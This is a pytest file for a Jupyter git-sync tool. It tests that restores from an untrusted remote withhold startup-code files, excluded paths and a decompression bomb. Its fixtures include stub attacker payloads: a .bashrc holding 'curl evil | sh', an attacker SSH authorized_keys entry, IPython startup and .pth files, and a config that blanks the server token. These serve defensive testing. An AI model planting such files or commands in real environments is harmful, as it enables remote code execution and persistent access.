"""What comes from a remote is untrusted: hostile trees, written straight into the real git
server's bare repository with git plumbing, restored by the command line and by the engine."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from jupyter_gitsync import filters, inbound
from jupyter_gitsync.auth import Credentials
from jupyter_gitsync.engine import EngineConfig, SyncEngine
from jupyter_gitsync.state import State
from tests.gitserver import GitHTTPServer
from tests.helpers import SNAPSHOT_BRANCH as BRANCH
from tests.helpers import LocalSession, MutableToken, async_wait_until, git, show
from tests.test_cli import ROOT

# What an attacker who can push to the branch would put there (issue: code ran in the user's
# first kernel and copied the push token).
HOSTILE = {
    ".ipython/profile_default/startup/00-steal.py": b"import os; open('/tmp/x','w')\n",
    ".local/lib/python3.11/site-packages/steal.pth": b"import os\n",
    ".bashrc": b"curl evil | sh\n",
    ".jupyter/jupyter_server_config.py": b"c.ServerApp.token = ''\n",
    ".env": b"PYTHONSTARTUP=steal.py\n",
    ".ssh/authorized_keys": b"ssh-ed25519 AAAA attacker\n",
    "deep/dir/.profile": b"evil\n",
}


def plumb(
    bare: Path, *args: str, stdin: bytes | None = None, env: dict[str, str] | None = None
) -> str:
    out = subprocess.run(
        ["git", f"--git-dir={bare}", *args],
        input=stdin,
        capture_output=True,
        check=True,
        env={**os.environ, **(env or {})},
    )
    return out.stdout.decode().strip()


def hostile_commit(bare: Path, branch: str, files: dict[str, bytes], tmp: Path) -> str:
    """A commit on `branch` that adds `files`, made with plumbing in the bare repository and
    dressed as a snapshot (the committer a snapshot has)."""
    index = {"GIT_INDEX_FILE": str(tmp / "hostile-index")}
    tip = plumb(bare, "rev-parse", f"refs/heads/{branch}")
    plumb(bare, "read-tree", tip, env=index)
    for path, content in files.items():
        blob = plumb(bare, "hash-object", "-w", "--stdin", stdin=content)
        plumb(bare, "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}", env=index)
    tree = plumb(bare, "write-tree", env=index)
    who = {
        "GIT_AUTHOR_NAME": "Mallory",
        "GIT_AUTHOR_EMAIL": "m@example.org",
        "GIT_COMMITTER_NAME": "Jupyter GitSync",
        "GIT_COMMITTER_EMAIL": "gitsync@localhost",
    }
    commit = plumb(bare, "commit-tree", tree, "-p", tip, "-m", "Update notes.md", env=who)
    plumb(bare, "update-ref", f"refs/heads/{branch}", commit)
    return commit


def zeros_blob(bare: Path, size_bytes: int) -> str:
    """A blob of `size_bytes` zeros: a few hundred kB in the repository, whatever its size."""
    process = subprocess.Popen(
        ["git", f"--git-dir={bare}", "hash-object", "-w", "--stdin"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert process.stdin is not None and process.stdout is not None
    chunk = bytes(1 << 20)
    for _ in range(size_bytes >> 20):
        process.stdin.write(chunk)
    process.stdin.close()
    blob = process.stdout.read().decode().strip()
    assert process.wait() == 0
    return blob


def test_the_code_at_start_list_and_the_reasons() -> None:
    for path in HOSTILE:
        assert filters.runs_code_at_start(path), path
    for path in ("analysis.ipynb", "src/profile.py", "notes/bashrc.md", "env/x.py"):
        assert not filters.runs_code_at_start(path), path
    reason = inbound.withheld_reason
    assert reason("a.bin", 0o100644, 60_000_000, (), 50_000_000) == (
        "not restored: larger than 50 MB"
    )
    assert reason("a.bin", 0o100644, None, (), 50_000_000) is None  # already here: not looked up
    assert reason("x/node_modules/a.js", 0o100644, 1, ("node_modules",), 0) == (
        "not restored: excluded from sync"
    )
    assert reason("lib", 0o160000, None, (), 0) == "not restored: a submodule"


def test_restore_never_writes_code_at_start_even_without_excludes(
    tmp_path: Path,
    earlier_session: Path,
    git_server: GitHTTPServer,
    remote: str,
    remote_url: str,
    token: str,
) -> None:
    bare = git_server.repo_path(remote)
    hostile_commit(bare, BRANCH, {**HOSTILE, "notes.md": b"fine\n"}, tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("my own bashrc\n")  # a local file at a withheld path
    session = LocalSession(home, BRANCH, excludes=())  # an admin emptied the excludes
    result = session.restore(remote_url, lambda: token)
    assert (home / "notes.md").read_text() == "fine\n"
    assert (home / "data" / "x.csv").exists()
    for path in HOSTILE:
        if path != ".bashrc":
            assert not (home / path).exists(), path
    assert (home / ".bashrc").read_text() == "my own bashrc\n"
    assert set(result.withheld) == set(HOSTILE)
    assert all("run code" in reason for reason in result.withheld.values())
    assert set(HOSTILE) <= set(session.skipped)
    # the next snapshot keeps the remote's entries (nothing deleted from the branch), and
    # records this workspace's own .bashrc
    (home / "more.txt").write_text("more\n")
    assert session.snapshot(None) is not None
    tip = git(home, "rev-parse", f"refs/heads/{BRANCH}")
    for path, content in HOSTILE.items():
        expected = b"my own bashrc\n" if path == ".bashrc" else content
        assert show(home, tip, path) == expected, path
    session.close()


def test_a_decompression_bomb_is_never_inflated(
    tmp_path: Path,
    earlier_session: Path,
    git_server: GitHTTPServer,
    remote: str,
    remote_url: str,
    token: str,
) -> None:
    """A 500 MB blob of zeros is a few hundred kB on the wire: restore leaves it on the
    remote, writes everything else, and its peak memory (Python and the imports included)
    stays below the blob's size."""
    bare = git_server.repo_path(remote)
    size = 500 * 1024 * 1024
    blob = zeros_blob(bare, size)
    index = {"GIT_INDEX_FILE": str(tmp_path / "bomb-index")}
    tip = plumb(bare, "rev-parse", f"refs/heads/{BRANCH}")
    plumb(bare, "read-tree", tip, env=index)
    plumb(bare, "update-index", "--add", "--cacheinfo", f"100644,{blob},data/bomb.bin", env=index)
    tree = plumb(bare, "write-tree", env=index)
    commit = plumb(bare, "commit-tree", tree, "-p", tip, "-m", "bomb")
    plumb(bare, "update-ref", f"refs/heads/{BRANCH}", commit)
    target = tmp_path / "target"
    target.mkdir()
    # the restore's own peak memory (the git server's processes are children of this one)
    measured = (
        "import resource, sys\n"
        "from jupyter_gitsync import cli\n"
        "code = cli.main(sys.argv[1:])\n"
        "print('peak_kib', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
        "sys.exit(code)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", measured, "restore", "--branch", BRANCH, "--remote", remote_url,
         str(target)],
        env={**os.environ, "GITSYNC_TOKEN": token, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=300,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    peak_kib = int(out.stderr.rsplit("peak_kib", 1)[1].split()[0])
    assert (target / "data" / "x.csv").exists()
    assert not (target / "data" / "bomb.bin").exists()
    assert peak_kib * 1024 < size, peak_kib
    assert git(target, "cat-file", "-s", f"refs/heads/{BRANCH}:data/bomb.bin") == str(size)


@pytest.fixture
def engine_settings(remote_url: str) -> dict[str, Any]:
    return {
        "branch": BRANCH,
        "remote_url": remote_url,
        "commit_delay_seconds": 0.2,
        "push_interval_seconds": 0.0,
        "retry_initial_seconds": 0.2,
        "retry_max_seconds": 1.0,
    }


async def test_the_engine_withholds_and_the_branch_keeps_what_was_withheld(
    tmp_path: Path,
    earlier_session: Path,
    clone_into: Callable[[Path], Path],
    git_server: GitHTTPServer,
    remote: str,
    token: str,
    engine_settings: dict[str, Any],
) -> None:
    """Another session (with a larger limit) saved a big file, and someone added a startup
    file: this session writes neither, tells the user, and its pushes delete neither."""
    bare = git_server.repo_path(remote)
    big = os.urandom(300_000)
    hostile_commit(bare, BRANCH, {"results/big.bin": big, ".bashrc": b"evil\n"}, tmp_path)
    workspace = clone_into(tmp_path / "launched")
    settings = {**engine_settings, "workspace": workspace, "max_file_size_bytes": 100_000}
    engine = SyncEngine(EngineConfig(**settings), Credentials([MutableToken(token)]))
    await engine.start()
    try:
        await async_wait_until(lambda: engine.status.state == State.SYNCED, what="restored")
        skipped = {s["path"]: s["reason"] for s in engine.status.skipped}
        assert skipped["results/big.bin"] == "not restored: larger than 0.1 MB"
        assert "run code" in skipped[".bashrc"]
        assert not (workspace / "results" / "big.bin").exists()
        assert not (workspace / ".bashrc").exists()
        (workspace / "mine.txt").write_text("mine\n")
        await async_wait_until(
            lambda: show(bare, f"refs/heads/{BRANCH}", "mine.txt"), what="the next push"
        )
        await async_wait_until(lambda: engine.status.state == State.SYNCED, what="synced")
        assert show(bare, f"refs/heads/{BRANCH}", "results/big.bin") == big
        assert show(bare, f"refs/heads/{BRANCH}", ".bashrc") == b"evil\n"
    finally:
        await engine.stop(5)
    # and after a restart it still does not write them, nor forget them
    engine = SyncEngine(EngineConfig(**settings), Credentials([MutableToken(token)]))
    await engine.start()
    try:
        (workspace / "again.txt").write_text("again\n")
        await async_wait_until(
            lambda: show(bare, f"refs/heads/{BRANCH}", "again.txt"), what="the push after restart"
        )
        assert show(bare, f"refs/heads/{BRANCH}", "results/big.bin") == big
        assert not (workspace / "results" / "big.bin").exists()
    finally:
        await engine.stop(5)


def test_restore_never_writes_excluded_paths_nor_replaces_local_ones(
    tmp_path: Path,
    earlier_session: Path,
    git_server: GitHTTPServer,
    remote: str,
    remote_url: str,
    token: str,
) -> None:
    bare = git_server.repo_path(remote)
    pushed = {
        ".ipynb_checkpoints/analysis-checkpoint.ipynb": b"{}\n",
        "web/node_modules/x/index.js": b"evil()\n",
        "src/__pycache__/m.cpython-311.pyc": b"\x00",
    }
    hostile_commit(bare, BRANCH, pushed, tmp_path)
    home = tmp_path / "home"
    (home / ".ipynb_checkpoints").mkdir(parents=True)
    (home / ".ipynb_checkpoints" / "analysis-checkpoint.ipynb").write_text("my checkpoint\n")
    session = LocalSession(home, BRANCH)
    result = session.restore(remote_url, lambda: token)
    assert (home / ".ipynb_checkpoints" / "analysis-checkpoint.ipynb").read_text() == (
        "my checkpoint\n"
    )
    assert not (home / "web" / "node_modules").exists()
    assert not (home / "src" / "__pycache__").exists()
    assert (home / "data" / "x.csv").exists()
    assert result.withheld == dict.fromkeys(pushed, "not restored: excluded from sync")
    session.close()
